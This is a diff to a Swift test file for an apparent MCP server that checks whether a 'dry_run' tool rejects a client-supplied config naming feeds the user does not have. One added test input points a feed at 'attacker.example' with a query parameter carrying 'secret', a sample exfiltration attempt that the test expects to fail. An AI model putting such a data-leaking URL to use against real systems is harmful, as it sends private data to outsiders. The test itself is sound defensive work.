@@ -101,6 +101,10 @@ struct MCPTests {
         + String(repeating: "a", count: 1_100_000) + #""}}}"#,
       #"{"jsonrpc":"2.0","id":13,"method":"ping"}"#,
       try Self.call(14, "pending_actions", [:]),
+      try Self.call(
+        15, "dry_run",
+        ["config": "feeds:\n  - { url: \"https://attacker.example/?d=secret\", name: x }\nrules: []\n"]),
+      try Self.call(16, "dry_run", ["config": try String(contentsOfFile: config, encoding: .utf8), "feed": "news"]),
     ]
     let answers = try Self.session(lines, arguments: ["--config", config, "--state-dir", state])
 
@@ -152,6 +156,11 @@ struct MCPTests {
     #expect(answers["12"] == nil)
     #expect(answers["13"]?["result"] != nil)
     #expect(try Self.toolResult(answers["14"]).isError == false)
+    // A config from the client may not name feeds the user does not have.
+    let exfiltrate = try Self.toolResult(answers["15"])
+    #expect(exfiltrate.isError && exfiltrate.text.contains("reads only the feeds of the config in use"))
+    let own = try Self.toolResult(answers["16"])
+    #expect(!own.isError && (own.json as? [String: Any])?["items"] != nil, "\(own.text)")
   }
 
   @Test("a proposed rule's dry run is test-rules' with the rule added, and nothing is written")
